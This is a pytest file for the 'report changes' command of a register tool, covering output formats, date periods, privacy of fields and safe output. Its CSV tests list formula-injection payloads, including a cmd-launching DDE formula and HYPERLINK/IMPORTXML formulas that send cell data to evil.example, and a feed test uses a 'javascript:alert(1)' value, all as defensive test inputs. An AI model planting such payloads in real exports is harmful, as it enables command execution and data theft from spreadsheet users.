"""Reports of changes: content, privacy and safe formats."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections import Counter
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pexpect
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from tests.commands import run, talk
from tests.histories import CLOSED, DORMANT, MOVED, NEWER, RENAMED, Past, agency_renamed
from tests.output.test_formats import HOSTILE, assert_safe
from tests.registers import ACCOUNT, ACCOUNT_TEXT, AGENCY, PROJECT, SMALL, Files, Repository, environment

from smregister.changes.public import CommitChanges, PublicChange
from smregister.model import Code, FieldChange, RecordId, Table, Value
from smregister.output.atom import format_feed
from smregister.output.formats import TABLE_WRITERS
from smregister.output.phrases import format_words
from smregister.records.schema.kind_loader import load_kinds
from smregister.reports.feed import feed
from smregister.repository.commits import Commit
from smregister.repository.work_tree import WorkTree
from smregister.translations import load_translations

REGISTER = "registry/register.yaml"
APPOINTMENT = "registry/agencies/health/appointments/manager.yaml"
ATOM = "{http://www.w3.org/2005/Atom}"
FORMATS = ("text", "json", "csv", "markdown", "html", "atom")
SECRET = "Not-for-the-public"


@pytest.fixture
def past(repository: Repository) -> Past:
    repository.mark("tags/v1")
    return Past(repository)


def report(past: Past, *arguments: str, since: str = "v1") -> dict[str, Any]:
    answer = run(past.repository.root, "report", "changes", "--from", since, "--json", *arguments)
    assert answer.status == 0, answer.messages
    return answer.json()


def rows(past: Past, *arguments: str, since: str = "v1") -> list[tuple[object, ...]]:
    """Return the rows without their letters, which are known only where the authors are."""
    return [tuple(row.values())[:-1] for row in report(past, *arguments, since=since)["rows"]]


def table(*cells: str, summary: int = 1) -> Table:
    counts: dict[str, Value] = {"added": summary, "agencies": {}}
    names, notes = ("id", "field"), (f"Note {cells[0]}",)
    return Table("changes", f"Title {cells[0]}", cells[0], names, (cells,), counts, names, (cells,), notes)


# Content.


def test_the_document(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT, RENAMED: NEWER.replace("example_health", "news")}, at="2026-02-03")
    fields = {"kind": "account", "agency": "health", "before_id": None, "authority": []}
    status = {"before": "active", "after": "dormant"}
    assert report(past) == {
        "version": 1,
        "report": "changes",
        "as_of": "2026-02-03",
        "columns": ["id", "kind", "agency", "change", "before_id", "field", "before", "after", "authority"],
        "rows": [
            {"id": "health/x-health", **fields, "change": "changed", "field": "/status", **status},
            {"id": "health/x-news", **fields, "change": "added", "field": None, "before": None, "after": None},
        ],
        "summary": {
            "added": 1, "removed": 0, "changed": 1, "renamed": 0, "closed": 0,
            "agencies": {"health": {"added": 1, "removed": 0, "changed": 1, "renamed": 0, "closed": 0}},
        },
    }  # fmt: skip


def test_changes_reverted_within_the_period_are_left_out(past: Past) -> None:
    past.commit({RENAMED: NEWER})
    past.commit({RENAMED: None})
    assert rows(past) == []


def test_closed_removed_and_renamed(past: Past) -> None:
    past.commit({RENAMED: NEWER.replace("example_health", "news")})
    past.repository.git("tag", "v2")
    past.commit({ACCOUNT: CLOSED, RENAMED: None})
    assert [(row[0], row[3]) for row in rows(past, since="v2")] == [
        *[("health/x-health", "closed")] * 3,
        ("health/x-news", "removed"),
    ]


def test_one_agency_s_gains_and_losses(past: Past) -> None:
    works = AGENCY.replace("/health/", "/works/")
    past.commit({works: SMALL[AGENCY], ACCOUNT: None, ACCOUNT.replace("/health/", "/works/"): ACCOUNT_TEXT})
    assert [row[:5] for row in rows(past, "--agency", "health")] == [
        ("works/x-health", "account", "works", "renamed", "health/x-health")
    ]
    assert len(rows(past, "--agency", "works")) == 2


def test_the_desk_s_records_have_no_agency(past: Past) -> None:
    past.commit({REGISTER: str(SMALL[REGISTER]).replace("Example desk", "Another desk")})
    assert rows(past) == [("register", "register", None, "changed", None, "/custodian", "Example desk", "Another desk")]
    assert rows(past, "--agency", "health") == []


def test_nothing_changed(past: Past) -> None:
    past.commit({ACCOUNT: f"# A comment.\n{ACCOUNT_TEXT}"})
    answer = run(past.repository.root, "report", "changes", "--from", "v1")
    assert (answer.status, answer.output, answer.messages) == (0, "", "from v1 to HEAD: nothing\n")
    assert report(past)["rows"] == []
    for format_ in FORMATS:
        assert run(past.repository.root, "report", "changes", "--from", "v1", "--format", format_).status == 0


def test_changes_that_are_not_committed_are_counted(past: Past) -> None:
    past.repository.write({ACCOUNT: DORMANT})
    answer = run(past.repository.root, "report", "changes", "--from", "v1")
    assert "1 changed file not committed, so not in this report" in answer.messages
    assert "not committed" not in run(past.repository.root, "report", "changes", "--from", "v1", "--to", "v1").messages


def test_at_a_terminal_columns_are_aligned(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT})
    with talk(past.repository.root, "report", "changes", "--from", "v1", settings={"COLUMNS": "200"}) as terminal:
        terminal.expect("Record +.*Change +.*Field +.*Before +.*After")
        terminal.expect("account health/x-health +changed +Status +active +dormant")
        terminal.expect("from v1 to HEAD: 1 changed")


def test_at_a_narrow_terminal_nothing_is_cut(past: Past) -> None:
    past.commit({ACCOUNT: ACCOUNT_TEXT.replace("News for the press", "Answers to citizens about the hospitals")})
    with talk(past.repository.root, "report", "changes", "--from", "v1", settings={"COLUMNS": "60"}) as terminal:
        terminal.expect(pexpect.EOF)
    output = " ".join((terminal.before or "").split())
    assert "…" not in output
    assert all(word in output for word in ("Answers", "citizens", "hospitals", "press"))


PEOPLE = ("text", "markdown", "html")


@pytest.mark.parametrize("format_", PEOPLE)
def test_headings_are_words_and_columns_are_names(past: Past, format_: str) -> None:
    past.commit({RENAMED: DORMANT.replace("languages: [en]", "languages: [en, fr]"), ACCOUNT: None})
    answer = run(past.repository.root, "report", "changes", "--from", "v1", "--format", format_).output
    # A page heads the rows of a record with its id instead.
    assert format_ == "html" or "Record" in answer
    assert all(heading in answer for heading in ("Change", "Field", "Before", "After"))
    assert not any(sign in answer for sign in ("before_id", "/languages", '["en"', "[&quot;en"))
    assert "en, fr" in answer
    assert rows(past)[0][:6] == ("health/x-news", "account", "health", "renamed", "health/x-health", "/languages")


def test_a_rename_has_its_own_line(past: Past) -> None:
    past.commit({RENAMED: DORMANT, ACCOUNT: None})
    answer = run(past.repository.root, "report", "changes", "--from", "v1")
    assert answer.output.splitlines()[1:] == [
        "account health/x-news\trenamed\t\thealth/x-health\thealth/x-news",
        "account health/x-news\tchanged\tStatus\tactive\tdormant",
    ]


@pytest.mark.parametrize(
    ("value", "words"),
    [
        (None, ""),
        (True, "yes"),
        (0, "0"),
        (["en", "fr"], "en, fr"),
        ({"from": "2020-01-01", "by": {"post": "Officer"}}, "from: 2020-01-01, by: (post: Officer)"),
        ([{"kind": "press", "seen": None}, {"kind": "letter"}], "kind: press, seen: ; kind: letter"),
        ([["a", "b"], "c"], "a, b; c"),
    ],
)
def test_values_in_words(value: Value, words: str) -> None:
    assert format_words(value) == words


def test_in_a_pipe_tabs_separate(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT})
    answer = run(past.repository.root, "report", "changes", "--from", "v1")
    assert answer.output.splitlines()[1] == "account health/x-health\tchanged\tStatus\tactive\tdormant"


# Periods.


def test_a_day_is_the_last_commit_by_its_end_in_the_register_s_zone(past: Past) -> None:
    past.commit({REGISTER: f"{SMALL[REGISTER]}timezone: Pacific/Port_Moresby\n"}, at="2026-01-02")
    past.commit({ACCOUNT: NEWER}, at="2026-02-03T13:59:59Z")
    past.commit({ACCOUNT: DORMANT}, at="2026-02-03T14:00:01Z")
    assert [row[6:] for row in rows(past, "--to", "2026-02-03", since="2026-01-02")] == [
        ("News for the press", "Newer things for the press")
    ]
    assert report(past, "--to", "2026-02-28", since="2026-01-02")["as_of"] == "2026-02-28"
    assert len(rows(past, since="2026-02-03")) == 2
    assert rows(past, since="2026-02-04") == []


def test_a_day_counts_merges_by_merge_time(past: Past) -> None:
    past.branch("side")
    past.commit({ACCOUNT: DORMANT}, at="2026-01-05")
    past.merge("side", "Merge branch 'side'", at="2026-02-03")
    assert rows(past, "--to", "2026-01-31") == []
    assert len(rows(past, "--to", "2026-02-03")) == 1


def test_the_last_day_of_the_calendar(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
    assert report(past, "--to", "9999-12-31")["as_of"] == "9999-12-31"


def test_a_page_names_its_period(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
    answer = run(past.repository.root, "report", "changes", "--from", "2026-01-01", "--format", "html")
    assert "<h1>Changes of the register from 1 January 2026 to 3 February 2026</h1>" in answer.output


def test_many_records_that_the_desk_added_are_one_line(past: Past) -> None:
    names = [f"E{letter}" for letter in "ABCDEF"]
    country = SMALL["registry/jurisdictions/EX.yaml"]
    past.commit({f"registry/jurisdictions/{name}.yaml": country for name in names}, at="2026-02-03")
    answer = run(past.repository.root, "report", "changes", "--from", "2026-01-01", "--format", "markdown")
    assert answer.output.splitlines()[-1] == (
        f"| 6 records of kind jurisdiction | added |  |  | {', '.join(f'`{name}`' for name in names)} |"
    )
    assert len(rows(past)) == 6


@pytest.mark.parametrize("since", ["2025-12-31", "0001-01-01"])
def test_a_period_that_begins_before_the_first_commit_begins_with_nothing(past: Past, since: str) -> None:
    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
    answer = run(past.repository.root, "report", "changes", "--from", since, "--agency", "health")
    assert answer.output.splitlines()[1:] == ["account health/x-health\tadded\t\t\t", "agency health\tadded\t\t\t"]
    assert answer.messages.splitlines() == [
        f"there is no commit up to {since} (the first one is of 2026-01-01); the period begins with an empty register",
        f"from {since} to HEAD: 2 added",
    ]
    day = load_translations("en").day(since)
    assert f"<h1>Changes of the register from {day} to 3 February 2026</h1>" in outputs(past, since)


def test_a_wrong_clock_hides_no_commit(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT}, at="2036-01-01")
    past.commit({RENAMED: NEWER}, at="2026-02-03")
    assert len(rows(past, "--to", "2026-02-03")) == 2


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        (
            ["--from", "2025-12-30", "--to", "2025-12-31"],
            "there is no commit up to 2025-12-31 (the first one is of 2026-01-01), so there is nothing to report",
        ),
        (["--from", "v1", "--to", "0001-01-01"], "there is no commit up to 0001-01-01"),
        (["--from", "2026-02-30"], "is not a date"),
        (["--from", "HEAD", "--to", "v1"], "`v1` is older than `HEAD`"),
        (["--from", "nonsense"], "there is no commit, tag or branch `nonsense`"),
        (["--from", "--output=x"], "there is no commit, tag or branch `--output=x`"),
        (["--from", "v1", "--agency", "helth"], "there is no agency `helth` at either end of the period; did you mean"),
        ([], "Missing option '--from'"),
        (["--from", "v1", "--format", "pdf"], "Invalid value"),
    ],
)
def test_impossible_periods_are_errors(past: Past, arguments: list[str], reason: str) -> None:
    past.commit({ACCOUNT: DORMANT})
    answer = run(past.repository.root, "report", "changes", *arguments)
    assert (answer.status, answer.output) == (2, "")
    assert reason in answer.messages


def test_without_git_there_is_no_period(register: Path) -> None:
    answer = run(register, "report", "changes", "--from", "2026-01-01")
    assert answer.status == 2
    assert "is not in a git repository" in answer.messages


def test_a_shallow_clone_has_no_early_days(past: Past, tmp_path: Path) -> None:
    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
    past.repository.git("clone", "--quiet", "--depth", "1", past.repository.root.as_uri(), str(tmp_path / "clone"))
    answer = run(tmp_path / "clone", "report", "changes", "--from", "2026-01-15")
    assert answer.status == 2
    assert "get the full history with `git fetch --unshallow`" in answer.messages


def test_unreadable_records_are_reported(past: Past) -> None:
    past.commit({ACCOUNT: "platform: [x\n"})
    for format_ in FORMATS:
        answer = run(past.repository.root, "report", "changes", "--from", "v1", "--format", format_)
        assert answer.status == 1
        assert f"not compared: {ACCOUNT}" in answer.messages


def test_a_register_older_than_its_schemas(past: Past) -> None:
    past.repository.git("checkout", "--quiet", "--orphan", "new")
    past.repository.git("rm", "--quiet", "-r", "--force", ".")
    past.commit({"README.md": "Soon."})
    past.repository.git("tag", "--force", "v0")
    past.repository.git("checkout", "--quiet", "main", "--", ".")
    past.commit({})
    assert ("health/x-health", "added") in [(row[0], row[3]) for row in rows(past, since="v0")]


# Privacy.


def outputs(past: Past, since: str = "v1") -> str:
    return "".join(
        run(past.repository.root, "report", "changes", "--from", since, "--format", format_).output
        for format_ in FORMATS
    )


def private_fields(kind: str) -> list[tuple[str, ...]]:

    routes = [field.route for field in load_kinds(WorkTree(PROJECT))[0][kind].fields.values() if field.private]
    return [each for each in routes if not any(other[:-1] == each for other in routes)]


def filled(route: tuple[str, ...], value: str) -> object:
    """Return a value with a secret at a route."""
    if not route:
        return value
    below = filled(route[1:], value)
    return [below] if route[0] == "*" else {route[0]: below}


def together(one: object, other: object) -> object:
    """Merge two values: mappings by key, lists by their first items."""
    if isinstance(one, dict) and isinstance(other, dict):
        return one | {key: together(one[key], value) if key in one else value for key, value in other.items()}
    return [together(one[0], other[0])] if isinstance(one, list) and isinstance(other, list) else one


PATHS = {
    "account": ACCOUNT,
    "agency": AGENCY,
    "appointment": APPOINTMENT,
    "directive": "registry/directives/one.yaml",
    "register": REGISTER,
}


def secrets_of(kind: str) -> str:
    """Return a record with a secret in each private field of its kind."""
    routes = private_fields(kind)
    assert routes
    secrets: object = {"name": "x"}
    for number, route in enumerate(routes):
        secrets = together(secrets, filled(route, f"{SECRET}-{number}"))
    assert json.dumps(secrets).count(SECRET) == len(routes)
    return json.dumps(secrets)


def test_no_private_field_is_in_any_format(past: Past) -> None:
    past.commit({path: secrets_of(kind) for kind, path in PATHS.items()})
    assert SECRET not in outputs(past)
    past.commit({path: json.dumps({"name": "x"}) for path in PATHS.values()})
    changed = {row[1] for row in rows(past, since="HEAD~1") if row[5] == "private fields changed"}
    assert changed == PATHS.keys()
    assert SECRET not in outputs(past, "HEAD~1")


def test_a_changed_private_field_is_noted(past: Past) -> None:
    past.commit({ACCOUNT: f"{DORMANT}notes: {SECRET}\n"})
    assert [row[5:] for row in rows(past)] == [
        ("/status", "active", "dormant"),
        ("private fields changed", None, None),
    ]


@pytest.mark.parametrize("earlier", [True, False])
def test_a_field_private_in_any_schema_of_the_period_is_left_out(past: Past, earlier: bool) -> None:
    schema = past.repository.root / "schemas/account.schema.json"
    described = json.loads(schema.read_text())
    described["properties"]["purpose"]["x-private"] = True
    private = {"schemas/account.schema.json": json.dumps(described)}
    public = {"schemas/account.schema.json": schema.read_text()}
    past.commit(private if earlier else public)
    past.repository.git("tag", "v2")
    past.commit({ACCOUNT: ACCOUNT_TEXT.replace("News for the press", SECRET)})
    past.commit(public if earlier else private)
    if not earlier:
        assert SECRET not in outputs(past, "v2")
    assert SECRET not in run(past.repository.root, "report", "changes", "--from", "v2", "--format", "csv").output


def test_a_field_private_in_one_alternative_is_left_out(past: Past) -> None:
    schema = past.repository.root / "schemas/account.schema.json"
    described = json.loads(schema.read_text())
    purpose = described["properties"]["purpose"]
    described["anyOf"] = [{"properties": {"purpose": purpose | {"x-private": True}}}, *described.get("anyOf", [])]
    past.commit({"schemas/account.schema.json": json.dumps(described)})
    past.commit({ACCOUNT: ACCOUNT_TEXT.replace("News for the press", SECRET)})
    assert ("private fields changed", None, None) in [row[5:] for row in rows(past)]
    assert SECRET not in outputs(past)


def test_a_field_without_a_schema_is_left_out(past: Past) -> None:
    past.commit({ACCOUNT: f"{ACCOUNT_TEXT}phone: {SECRET}\n"})
    assert SECRET not in outputs(past)
    assert [row[5] for row in rows(past)] == ["private fields changed"]


def test_a_value_of_the_wrong_shape_is_not_public(past: Past) -> None:
    shapes = {"text": SECRET, "list": f"[{SECRET}]", "lists": f"[[{SECRET}]]", "number": f"{{0: {SECRET}}}"}
    officers = {APPOINTMENT.replace("manager", name): f"officer: {officer}\n" for name, officer in shapes.items()}
    past.commit(officers)
    assert SECRET not in outputs(past)
    past.commit(dict.fromkeys(officers, "officer: x\n"))
    assert SECRET not in outputs(past, "HEAD~1")


def test_authors_of_commits_are_left_out(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT}, f"A word about {SECRET}", by=SECRET)
    assert SECRET not in outputs(past)


def test_deeply_nested_data_is_cheap(past: Past) -> None:
    deep = "x: " + "{a: " * 30 + "1" + "}" * 30 + "\n"
    past.commit({ACCOUNT: ACCOUNT_TEXT + deep})
    assert [row[5] for row in rows(past)] == ["private fields changed"]


# CSV without formulas.

FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-@＝＋－＠|%"),
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://evil.example\", A1), \"//a\")",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xa0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "\t",
    "%0A=1+1",
    "−1",
]  # fmt: skip
HARMLESS = ["plain", "a=b", "1+1", "x@example.org", "", "'=1+1", '"quoted"', "two, cells", "a;b", "two\nlines", "官方"]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    [_, row] = read_back("\n".join(TABLE_WRITERS["csv"](table(text, text))))
    assert len(row) == 2
    assert all(cell.startswith("'") for cell in row)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_unchanged(text: str) -> None:
    assert read_back("\n".join(TABLE_WRITERS["csv"](table(text, text))))[1:] == [[text, text]]


@given(st.text(), st.text())
def test_no_cell_is_split_or_a_formula(one: str, two: str) -> None:
    lines = list(TABLE_WRITERS["csv"](table(one, two)))
    [heading, row] = read_back("\n".join(lines))
    assert heading == ["id", "field"]
    assert not any(cell[:1] in set("=+-@\t\r＝＋－＠|%") - {""} for cell in row)
    assert all(line.startswith('"') and line.endswith('"') for line in lines)


def test_values_other_than_texts() -> None:
    rows = ((None, True, 12, ["a", {"b": None}]),)
    several = Table("x", "X", "2026-01-01", ("a", "b", "c", "d"), rows, {}, ("A", "B", "C", "D"), rows)
    assert read_back("\n".join(TABLE_WRITERS["csv"](several)))[1] == ["", "true", "12", '["a", {"b": null}]']


# The other formats.


@pytest.mark.parametrize("format_", TABLE_WRITERS)
@pytest.mark.parametrize("text", HOSTILE)
def test_tables_are_safe(format_: str, text: str) -> None:
    lines = list(TABLE_WRITERS[format_](table(text, text)))
    if format_ == "text":
        assert [line.count("\t") for line in lines] == [1, 1]
        lines = [line.replace("\t", " ") for line in lines]
    assert_safe("\n".join(lines))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_markup_in_markdown(text: str) -> None:
    assert_words_only("\n".join(TABLE_WRITERS["markdown"](table(text, text))), cells=2)


@given(st.text(st.sampled_from("`|\\ *<[]()!@:/.w"), min_size=1, max_size=14))
def test_no_text_ends_its_cell_in_markdown(text: str) -> None:
    assert_words_only("\n".join(TABLE_WRITERS["markdown"](table(text, text))), cells=2)


def assert_words_only(markdown: str, cells: int) -> None:
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(markdown)
    kinds = {child.type for token in tokens for child in token.children or []}
    assert kinds <= {"text", "text_special", "code_inline", "strong_open", "strong_close"}
    assert sum(token.type == "td_open" for token in tokens) == cells


def test_ids_are_code_and_words_are_words_in_markdown() -> None:
    line = (RecordId("account", "health/x"), "not met", "`facts` is 0", [Code("one"), "two"], "ask @team")
    headings = ("Account", "Outcome", "Reason", "About", "Text")
    report = Table("x", "Accounts", "2026-01-01", headings, (line,), {"met": 2}, headings, (line,))
    title, *_, row = TABLE_WRITERS["markdown"](report)
    assert title == "**Accounts**: 2 met"
    assert row == "| `health/x` | not met | `facts` is 0 | `one`, two | `ask @team` |"


# The feed.

COMMIT = Commit("f" * 40, (), 1_770_000_000, "Somebody", "A message")


def change(text: str, number: int = 0) -> PublicChange:
    fields = (FieldChange((text,), text, [text]),)
    return PublicChange("account", f"health/{text}{number}", "health", "renamed", fields, True, f"health/{text}")


def parsed(*texts: str) -> ElementTree.Element:
    about = dict.fromkeys(("name", "contact", "custodian"), texts[0])
    commits = [CommitChanges(COMMIT, [change(text, number) for number, text in enumerate(texts)], [])]
    return ElementTree.fromstring("\n".join(format_feed(feed(about, commits, COMMIT))).encode("utf-8", "strict"))  # type: ignore[arg-type]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_feed_with_hostile_text_is_well_formed(text: str) -> None:
    assert len(parsed(text).findall(f"{ATOM}entry")) == 1


@given(st.text())
def test_a_feed_of_any_text_is_well_formed(text: str) -> None:
    entries = parsed(text).findall(f"{ATOM}entry")
    assert [len(list(entry)) for entry in entries] == [4]


def atom(past: Past, *arguments: str, since: str = "v1") -> ElementTree.Element:
    answer = run(past.repository.root, "report", "changes", "--from", since, "--format", "atom", *arguments)
    assert (answer.status, answer.messages) == (0, "")
    return ElementTree.fromstring(answer.output)


def texts(element: ElementTree.Element, name: str) -> list[str]:
    return [feed_element.text or "" for feed_element in element.iter(f"{ATOM}{name}")]


def test_a_feed_has_each_change_with_its_time(past: Past) -> None:
    past.commit({ACCOUNT: f"{DORMANT}notes: x\n"}, at="2026-02-03")
    past.branch("side")
    past.commit({RENAMED: "platform: x\nhandle: news\n"}, at="2026-02-04")
    past.merge("side", "Merge branch 'side'", at="2026-03-04T05:06:07+10:00")
    feed_element = atom(past)
    assert texts(feed_element, "title") == [
        "Register of a made-up government: changes",
        "account health/x-news added",
        "account health/x-health changed",
    ]
    assert texts(feed_element, "updated") == ["2026-03-03T19:06:07Z", "2026-03-03T19:06:07Z", "2026-02-03T12:00:00Z"]
    assert texts(feed_element, "name") == ["Example desk"]
    assert texts(feed_element, "content") == [
        "platform: (nothing) → x\nhandle: (nothing) → news",
        "status: active → dormant\nprivate fields changed",
    ]


def test_a_feed_has_the_required_elements(past: Past) -> None:
    past.commit(agency_renamed())
    feed_element = atom(past)
    for element in (feed_element, *feed_element.findall(f"{ATOM}entry")):
        assert [len(element.findall(f"{ATOM}{name}")) for name in ("id", "title", "updated")] == [1, 1, 1]
    identifiers = texts(feed_element, "id")
    assert len(set(identifiers)) == 3
    assert all(each.startswith("urn:uuid:") for each in identifiers)


# The elements allowed in each, with their minimum and maximum (RFC 4287, sections 4.1.1, 4.1.2 and 3.2).
MANY = 1_000_000
GRAMMAR = {
    "feed": {"id": (1, 1), "title": (1, 1), "updated": (1, 1), "author": (1, MANY), "link": (0, 1), "entry": (0, MANY)},
    "entry": {"id": (1, 1), "title": (1, 1), "updated": (1, 1), "content": (1, 1)},
    "author": {"name": (1, 1)},
}
WITH_SITE = {REGISTER: f"{SMALL[REGISTER]}site: https://register.example/\n"}


@pytest.mark.parametrize("about", [{}, WITH_SITE])
def test_a_feed_keeps_to_the_grammar_of_atom(past: Past, about: Files) -> None:
    past.commit({ACCOUNT: f"{DORMANT}notes: x\n", **about})
    past.commit(agency_renamed(DORMANT))
    feed_element = atom(past)
    assert feed_element.tag == f"{ATOM}feed"
    for element in feed_element.iter():
        names = Counter(child.tag.removeprefix(ATOM) for child in element)
        allowed = GRAMMAR.get(element.tag.removeprefix(ATOM), {})
        assert names.keys() <= allowed.keys()
        assert all(least <= names[name] <= most for name, (least, most) in allowed.items())
    assert all(re.fullmatch(r"\d{4}(-\d\d){2}T\d\d(:\d\d){2}Z", each) for each in texts(feed_element, "updated"))
    assert {
        each.get("type") for each in (*feed_element.iter(f"{ATOM}title"), *feed_element.iter(f"{ATOM}content"))
    } == {"text"}


@pytest.mark.parametrize(
    ("site", "addresses"),
    [
        ("https://register.example/", ["https://register.example/changes.atom"]),
        ("https://gov.example/accounts", ["https://gov.example/accounts/changes.atom"]),
        ("https://gov.example/a&b<c>", ["https://gov.example/a&b<c>/changes.atom"]),
        ("https://gov.example/?page=2", []),
        ("javascript:alert(1)", []),
        ("[1, 2]", []),
    ],
)
def test_a_feed_has_its_own_address(past: Past, site: str, addresses: list[str]) -> None:
    past.commit({REGISTER: f"{SMALL[REGISTER]}site: {site}\n"})
    assert [link.get("href") for link in atom(past).iter(f"{ATOM}link") if link.get("rel") == "self"] == addresses
    assert not [*atom(past, "--agency", "health").iter(f"{ATOM}link")]


def test_ids_are_stable(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT})
    before = texts(atom(past), "id")
    past.commit({ACCOUNT: CLOSED})
    after = texts(atom(past), "id")
    assert [after[0], after[2]] == before
    assert texts(atom(past, "--agency", "health"), "id")[1:] == after[1:]


def test_a_feed_of_one_agency(past: Past) -> None:
    past.commit(agency_renamed())
    past.commit({MOVED: DORMANT})
    assert texts(atom(past, "--agency", "health"), "title") == [
        "Register of a made-up government: changes of health",
        "account hygiene/x-health renamed from health/x-health",
        "agency hygiene renamed from health",
    ]


def test_a_feed_from_before_the_first_commit_has_that_commit(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT}, at="2026-02-03")
    arguments = ("report", "changes", "--from", "2025-12-31", "--agency", "health", "--format", "atom")
    answer = run(past.repository.root, *arguments)
    assert (answer.status, "begins with an empty register" in answer.messages) == (0, True)
    assert texts(ElementTree.fromstring(answer.output), "title")[1:] == [
        "account health/x-health changed",
        "account health/x-health added",
        "agency health added",
    ]


def test_an_empty_feed_is_as_old_as_its_register(past: Past) -> None:
    past.commit({"README.md": "x"}, at="2026-02-03")
    assert texts(atom(past), "updated") == ["2026-02-03T12:00:00Z"]


def test_json_wins_over_a_format(past: Past) -> None:
    past.commit({ACCOUNT: DORMANT})
    assert report(past, "--format", "atom") == report(past)


IN_EVERY_FORMAT = """\
import sys
from smregister.cli.main import main
for format_ in sys.argv[1].split():
    sys.argv = ["smregister", "report", "changes", "--from", "v1", "--format", format_]
    try:
        main()
    except SystemExit:
        sys.stdout.flush()
"""


def test_output_is_deterministic(past: Past) -> None:
    past.commit(
        agency_renamed(DORMANT) | {ACCOUNT.replace("/health/accounts/x-health", "/works/agency"): SMALL[AGENCY]}
    )
    # This process has another hash seed.
    assert os.environ.get("PYTHONHASHSEED") != "1"
    apart = subprocess.run(
        [sys.executable, "-c", IN_EVERY_FORMAT, " ".join(FORMATS)],
        cwd=past.repository.root,
        env=environment() | {"LC_ALL": "C.UTF-8", "PYTHONHASHSEED": "1", "TZ": "Asia/Tokyo"},
        capture_output=True,
        encoding="utf-8",
        check=True,
    )
    arguments = (past.repository.root, "report", "changes", "--from", "v1", "--format")
    here = [run(*arguments, format_, settings={"COLUMNS": "20"}).output for format_ in FORMATS]
    assert apart.stdout == "".join(here)
    assert all(here)
